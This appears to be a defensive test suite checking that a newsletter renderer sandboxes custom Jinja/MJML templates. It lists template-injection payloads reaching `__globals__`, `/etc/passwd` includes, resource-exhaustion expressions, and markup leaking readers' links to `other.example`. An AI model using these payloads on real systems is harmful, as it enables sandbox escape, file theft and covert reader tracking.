"""Newsletters' own templates: rendered in a separate process, with malicious content."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from newsletter.errors import NotFoundError, TemplateError
from newsletter.i18n.language import Language
from newsletter.issues.checks.findings import Severity
from newsletter.issues.model import Issue
from newsletter.issues.sources.reading import read_issue
from newsletter.rendering.model import Publisher, RenderedIssue, TemplateSource
from newsletter.rendering.preflight import run_preflight
from newsletter.rendering.render import render_issue
from newsletter.rendering.slots import fill
from newsletter.samples import sample_issue
from newsletter.settings import shipped_templates

pytestmark = pytest.mark.servers

_FOLDER = shipped_templates()
_NAME = "own/season"


def _shipped(file: str) -> str:
    return (_FOLDER / "email" / "letter" / file).read_text(encoding="utf-8")


_LETTER = TemplateSource(
    body=_shipped("body.mjml.j2"), text=_shipped("body.txt.j2"), subject=_shipped("subject.txt.j2")
)
_SHORT = Issue(title="号", issue_date=date(2027, 1, 5), language=Language.JAPANESE)


def _render(source: TemplateSource, issue: Issue = _SHORT) -> RenderedIssue:
    publisher = _publisher(source)
    return render_issue(issue, template=_NAME, templates_dir=_FOLDER, publisher=publisher)


def _publisher(source: TemplateSource) -> Publisher:
    return Publisher(
        name="便り",
        sender_name="例町",
        sender_address="news@example.jp",
        postal_address="東京都",
        templates=((_NAME, source),),
    )


def _with(jinja: str) -> TemplateSource:
    return replace(_LETTER, body=_LETTER.body.replace("<mj-body", f"{jinja}\n<mj-body", 1))


@pytest.mark.parametrize("language", list(Language))
def test_a_copy_of_the_products_makes_the_same_mail(language: Language) -> None:
    issue = read_issue(sample_issue(language), source="sample").issue
    publisher = Publisher(
        name="便り", sender_name="例町", sender_address="news@example.jp", postal_address="東京都"
    )
    there = render_issue(
        issue, template="letter", templates_dir=_FOLDER, publisher=publisher, site="https://e.jp"
    )
    own = replace(publisher, templates=((_NAME, _LETTER),))
    here = render_issue(
        issue, template=_NAME, templates_dir=_FOLDER, publisher=own, site="https://e.jp"
    )
    assert fill(here.html, {}) == fill(there.html, {})
    assert fill(here.text, {}) == fill(there.text, {})
    assert (here.subject, here.calendars) == (there.subject, there.calendars)


@pytest.mark.parametrize(
    "jinja",
    [
        "{% set x = 9 ** (9 ** 9) %}",
        "{% for a in range(99999) %}{{ 'x' * 100000 }}{% endfor %}",
        "{{ 'x' * 10 ** 10 }}",
        "{{ ('x' * 10 ** 8) ~ ('y' * 10 ** 8) ~ ('z' * 10 ** 8) }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{{ '%1000000000s' % 'a' }}",
        "{{ '{:>1000000000}'.format('a') }}",
        "{{ (range(99999) | list) * 100000 }}",
    ],
    ids=lambda jinja: jinja[:24],
)
def test_a_template_beyond_a_limit_is_stopped_with_an_error(jinja: str) -> None:
    with pytest.raises(TemplateError) as stopped:
        _render(_with(jinja))
    assert stopped.value.place is not None
    assert str(stopped.value.place).startswith("MJML")
    assert re.search("takes|yields|recursion|long", str(stopped.value.message))
    assert _render(_LETTER).subject


def test_a_mail_whose_checks_go_beyond_a_limit_is_stopped_with_an_error() -> None:
    matched_for_hours = (
        "<mj-head><mj-style>@media (prefers-color-scheme: dark)"
        "{p ~ p ~ p ~ p {color: #111111 !important}}</mj-style></mj-head>"
    )
    many = "<mj-raw>{% for each in range(30000) %}<p>x</p>{% endfor %}</mj-raw>"
    body = _with(matched_for_hours).body.replace("</mj-body>", f"{many}</mj-body>")
    preflight = run_preflight(
        _SHORT,
        template=_NAME,
        templates_dir=_FOLDER,
        publisher=_publisher(replace(_LETTER, body=body)),
    )
    errors = {each.code for each in preflight.findings if each.severity is Severity.ERROR}
    assert ("template" in errors, preflight.rendered) == (True, None)


@pytest.mark.parametrize(
    "jinja",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ issue.__init__.__globals__ }}",
        "{{ issue | attr('__class__') }}",
        "{{ '{0.__class__.__mro__}'.format(issue) }}",
        "{{ _.__globals__ }}",
        "{{ namespace.__init__.__globals__.os }}",
        "{{ publisher.own_template.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{% include '../../../pyproject.toml' %}",
        "{% include '_shared/../../web/base.html' %}",
        "{% include 'digest/body.mjml.j2' %}",
        "{% include '_notice/body.mjml.j2' %}",
        "<mj-include path='/etc/passwd' />",
        "{{ undefined_name }}",
        "{% set x = %}",
    ],
)
def test_nothing_but_the_issue_and_the_partials_is_within_reach(jinja: str) -> None:
    with pytest.raises(TemplateError) as refused:
        _render(_with(jinja))
    assert "root:" not in str(refused.value)
    assert "process ended" not in str(refused.value)
    assert refused.value.place is not None


@pytest.mark.parametrize(
    "words",
    [
        "_('{rule.__globals__[__name__]}', rule=rule)",
        "ngettext('{issue.__class__}', '', 1, issue=issue)",
        "pgettext('sign', '{issue!r}', issue=issue)",
    ],
)
def test_words_fill_in_names_and_nothing_of_what_they_hold(words: str) -> None:
    with pytest.raises(TemplateError):
        _render(replace(_LETTER, subject=f"{{{{ {words} }}}}"))


@pytest.mark.parametrize(
    "written",
    [
        '<mj-raw><link rel="stylesheet" href="{path}"></mj-raw>',
        '<mj-raw><link rel="stylesheet" href="file://{path}"></mj-raw>',
        '<mj-style inline="inline">@import url("{path}");</mj-style>',
        '<mj-style inline="inline">@import url("file://{path}");</mj-style>',
        '<mj-style>@import "file://{path}";</mj-style>',
    ],
)
def test_no_style_sheet_brings_a_file_in(written: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.css"
    secret.write_text(".card { color: #5ec2e7; content: 'hidden-word' }")
    head = written.format(path=secret)
    body = "<mjml><mj-head>" + head + "</mj-head>" + _LETTER.body.partition("</mj-head>")[2]
    body = _LETTER.body.replace(
        '{% include "_shared/head.mjml.j2" %}', f"<mj-head>{head}</mj-head>"
    )
    try:
        shown = fill(_render(replace(_LETTER, body=body)).html, {})
    except TemplateError as error:
        shown = str(error)
    assert "hidden-word" not in shown
    assert "5ec2e7" not in shown


def test_a_fault_is_told_with_file_and_line() -> None:
    with pytest.raises(TemplateError) as told:
        _render(replace(_LETTER, text="一行目\n{{ issue.nothing }}\n"))
    assert (str(told.value.place)) == "Plain text:2"
    lost = replace(_LETTER, subject="{{ issue.title }}", text="{{ slots.unsubscribe_url }}")
    issue = read_issue(sample_issue(Language.JAPANESE), source="sample").issue
    with pytest.raises(TemplateError, match="drops"):
        _render(lost, issue)


def test_mjml_that_is_not_well_formed_is_told_with_the_line_that_was_typed() -> None:
    body = _LETTER.body.replace("</mj-body>", "<mj-section></mj-column></mj-section>\n</mj-body>")
    typed = body[: body.index("</mj-column>")].count("\n") + 1
    with pytest.raises(TemplateError, match="not well-formed") as told:
        _render(replace(_LETTER, body=body))
    assert str(told.value.place) == f"MJML:{typed}"
    assert f"line {typed} " in str(told.value)


def test_a_template_that_is_gone_is_told() -> None:
    publisher = Publisher(
        name="便り", sender_name="例町", sender_address="news@example.jp", postal_address="東京都"
    )
    with pytest.raises(NotFoundError, match="own/season"):
        render_issue(_SHORT, template=_NAME, templates_dir=_FOLDER, publisher=publisher)


def test_a_picture_that_a_template_loads_from_another_site_is_told() -> None:
    """The arrows of MJML's carousel are on another site, although the template does not name it."""
    column = (
        '<mj-section><mj-column><mj-image src="https://news.example.jp/images/a.png" alt="" />'
        '<mj-carousel><mj-carousel-image src="https://news.example.jp/images/b.png" alt="" />'
        '</mj-carousel><mj-image src="https://[::1/malformed.png" alt="" />'
        "</mj-column></mj-section>"
    )
    body = _LETTER.body.replace("</mj-body>", f"{column}</mj-body>")
    publisher = Publisher(
        name="便り", sender_name="町", sender_address="a@example.jp", postal_address="東京都1-1"
    )
    own = replace(publisher, templates=((_NAME, replace(_LETTER, body=body)),))

    found = run_preflight(
        _SHORT,
        template=_NAME,
        templates_dir=_FOLDER,
        publisher=own,
        own_site="https://news.example.jp",
    )

    told = [each for each in found.findings if each.code == "template-picture-elsewhere"]
    assert [each.about for each in told] == ["i.imgur.com"]


@pytest.mark.parametrize(
    "written",
    [
        '<img src="https://other.example/p.gif?{link}" alt="">',
        '<a href="https://other.example/?{link}">x</a>',
        "<style>p {{ background: url(https://other.example/{link}) }}</style>",
        "<img src='https://other.example/?href=\"{link}\"' alt=''>",
        '<a href="{link}" ping="https://other.example/{link}">x</a>',
        '<a href="{link}" ping="https://other.example/">x</a>',
        "<!--[if mso]><v:rect href='https://other.example/{link}'></v:rect><![endif]-->",
        "<!--> <img src='https://other.example/{link}'> -->",
        "<a title='{link}' href='https://other.example'>x</a>",
    ],
)
@pytest.mark.parametrize(
    "link", ["slots.view_url", "slots.preferences_url", "marks.use('unsubscribe_url', '')"]
)
def test_a_readers_own_link_is_told_to_no_other_site(written: str, link: str) -> None:
    raw = f"<mj-raw>{written.format(link='{{ ' + link + ' }}')}</mj-raw>\n</mj-body>"
    with pytest.raises(TemplateError, match="own link"):
        _render(replace(_LETTER, body=_LETTER.body.replace("</mj-body>", raw)))


@pytest.mark.parametrize(
    "selector",
    [
        "a[href*='/u/ab']",
        "a[ HREF$=b]",
        "[*|href*=a]",
        "a[/**/href^='https://x']",
        "a[\\68 ref*=a]",
    ],
)
def test_a_style_sheet_asks_for_no_address_of_a_link(selector: str) -> None:
    sheet = "<mj-raw><style>%s { background: url(https://other.example/ab) }</style></mj-raw>"
    with pytest.raises(TemplateError, match="by their address"):
        _render(replace(_LETTER, body=_behind_all(sheet % selector)))
    _render(replace(_LETTER, body=_behind_all(sheet % "a[href^='tel:']")))


def _behind_all(raw: str) -> str:
    return _LETTER.body.replace("</mj-body>", f"{raw}\n</mj-body>")


def test_a_readers_own_link_is_part_of_no_address_in_plain_text() -> None:
    told = "\nhttps://other.example/?{{ slots.view_url }}\n"
    with pytest.raises(TemplateError, match="own link") as refused:
        _render(replace(_LETTER, text=_LETTER.text + told))
    assert str(refused.value.place) == "Plain text"
    _render(replace(_LETTER, text=_LETTER.text + "\nここから：{{ slots.view_url }}\n"))


def test_a_readers_own_link_may_lead_to_a_part_of_its_page_also_in_outlook() -> None:
    raw = (
        "<mj-raw><!--[if mso]><v:rect href='{{ slots.view_url }}'></v:rect><![endif]-->"
        "<a href='{{ slots.view_url }}#c1'>x</a></mj-raw></mj-body>"
    )
    rendered = _render(replace(_LETTER, body=_LETTER.body.replace("</mj-body>", raw)))
    assert "href='https://ours/v/1'" in fill(rendered.html, {"view_url": "https://ours/v/1"})
